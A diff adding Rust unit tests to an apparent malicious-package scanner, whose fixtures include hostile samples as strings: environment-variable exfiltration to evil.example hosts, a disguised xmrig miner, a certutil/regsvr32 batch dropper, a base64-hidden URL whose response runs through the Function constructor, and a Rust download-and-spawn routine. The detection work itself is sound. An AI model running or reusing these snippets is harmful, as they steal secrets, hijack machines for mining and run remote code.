@@ -409,3 +409,66 @@ setup(name="pkg", version=version, url="https://github.com/acme/pkg", install_re
         .iter()
         .all(|f| f.check != "scam.install_scripts"));
 }
+
+#[test]
+fn whole_environment_to_a_hard_coded_server() {
+    let ctx = "import base64\nfrom os import environ\nimport requests\n\ndef send():\n    s = ''\n    for _, v in environ.items():\n        s += v + ' '\n    b = base64.b64encode(s.encode()).decode()\n    requests.get('https://anti-theft.evil.example/h/' + b)\n";
+    assert_eq!(sev("ctx/ctx.py", ctx), Some(Severity::Critical));
+    let recon = "const https = require('https');\nconst os = require('os');\nconst data = JSON.stringify({ hn: os.hostname(), env: process.env });\nconst req = https.request({ hostname: 'ce9x1k2.evil.example', method: 'POST' });\nreq.write(data);\n";
+    assert_eq!(sev("index.js", recon), Some(Severity::Critical));
+    // Near misses: the environment handed to a child process; one variable sent to an API;
+    // a host name sent to the project's own telemetry.
+    clean("run.js", "const https = require('https');\nconst child = spawn('node', ['x.js'], { env: { ...process.env, A: '1' } });\nhttps.get('https://api.example.com/v1/ping');\n");
+    clean("bot.js", "const hook = 'https://discord.com/api/webhooks/1/abcdef';\nconst os = require('os');\nconst child = spawn('node', ['worker.js'], {\n  stdio: 'inherit',\n  env: process.env,\n});\nfetch(hook, { method: 'POST', body: os.hostname() });\n");
+    clean("cfg.py", "import os\nimport requests\ntoken = os.environ.get('API_TOKEN')\nrequests.get('https://api.example.com/v1/me', headers={'Authorization': token})\n");
+    clean("tele.js", "const https = require('https');\nconst os = require('os');\nhttps.request({ hostname: 'telemetry.example.com', method: 'POST' }).end(os.hostname());\n");
+}
+
+#[test]
+fn disguised_miner() {
+    let sh = "#!/bin/bash\nDIR=$HOME/.cache/.sysupdate\ncurl -sL https://github.com/xmrig/xmrig/releases/download/v6/xmrig-6-linux-static-x64.tar.gz | tar xz\nmv xmrig sysupdate\nnohup ./sysupdate -c config.json --background >/dev/null 2>&1 &\n";
+    assert_eq!(sev("setup.sh", sh), Some(Severity::Critical));
+    let renamed_flags = "curl http://pool.evil.example/jsextension -o jsextension\nchmod +x jsextension\n./jsextension -k --tls -o pool.evil.example:443 -u 4vGM --donate-level=1 --background &>/dev/null &\n";
+    assert_eq!(
+        sev("preinstall.sh", renamed_flags),
+        Some(Severity::Critical)
+    );
+    // A miner-setup script that says what it runs, in the foreground: not disguised.
+    let honest = "#!/bin/bash\ncurl -sL https://github.com/xmrig/xmrig/releases/download/v6/xmrig-6-linux-static-x64.tar.gz | tar xz\n./xmrig -o stratum+tcp://pool.example.com:3333 -u \"$WALLET\" --donate-level=1\n";
+    assert_ne!(sev("scripts/mine.sh", honest), Some(Severity::Critical));
+}
+
+#[test]
+fn batch_dropper() {
+    let coa = "@echo off\nset k=url\nset c=c%k%\nset r=reg\nset s=svr32\nset u=https://cdn.evil.example/sdd.dll\n%c% %u% -o compile.dll\nif not exist compile.dll (\n  certutil.exe -urlcache -f %u% compile.dll\n)\n%r%%s%.exe -s compile.dll\n";
+    assert_eq!(sev("compile.bat", coa), Some(Severity::Critical));
+    let reg = "@echo off\ncurl https://cdn.evil.example/x.dll -o x.dll\nregsvr32.exe -s x.dll\n";
+    assert_eq!(sev("install.bat", reg), Some(Severity::Critical));
+    // A build script fetching a tool and calling it through a variable.
+    clean("scripts/build.bat", "@echo off\nset NUGET=%~dp0nuget.exe\ncurl -L https://dist.nuget.org/win-x86-commandline/latest/nuget.exe -o %NUGET%\n%NUGET% restore Solution.sln\n");
+}
+
+#[test]
+fn remote_function_from_a_hidden_url() {
+    let js = "const axios = require('axios');\nconst u = 'aHR0cHM6Ly9hcGkuZXZpbC5leGFtcGxlL2ljb25z';\n(async () => {\n  const res = await axios.get(atob(u));\n  const h = new Function.constructor('require', res.data.cookie);\n  h(require);\n})();\n";
+    assert_eq!(
+        sev("server/middlewares/errorHandler.js", js),
+        Some(Severity::Critical)
+    );
+    // The address in the open, the response parsed, not run.
+    clean("server/prices.js", "const axios = require('axios');\n(async () => {\n  const res = await axios.get(process.env.PRICE_API);\n  const prices = JSON.parse(res.data);\n  console.log(prices);\n})();\n");
+}
+
+#[test]
+fn rust_download_and_spawn() {
+    let rs = "fn check() {\n    let path = \"/tmp/git-updater.bin\";\n    if let Ok(resp) = reqwest::blocking::get(\"https://evil.example/x/git-updater.bin\") {\n        if let Ok(bytes) = resp.bytes() {\n            let mut f = std::fs::File::create(path).unwrap();\n            f.write_all(&bytes).unwrap();\n            let _ = Command::new(path).spawn();\n        }\n    }\n}\n";
+    assert_eq!(sev("src/lib.rs", rs), Some(Severity::Critical));
+    // A client that downloads a file and saves it: no execution.
+    clean("src/dl.rs", "fn fetch() {\n    let resp = reqwest::blocking::get(\"https://example.com/data.csv\").unwrap();\n    let mut f = std::fs::File::create(\"data.csv\").unwrap();\n    f.write_all(&resp.bytes().unwrap()).unwrap();\n}\n");
+}
+
+#[test]
+fn env_key_into_bot_message_is_not_malware_alone() {
+    // Sanity: a notifier without the key stays clean of scam.malware.
+    clean("bot/notify.py", "import requests\ndef notify(msg):\n    requests.post(f'https://api.telegram.org/bot{BOT}/sendMessage', data={'chat_id': CHAT, 'text': msg})\n");
+}
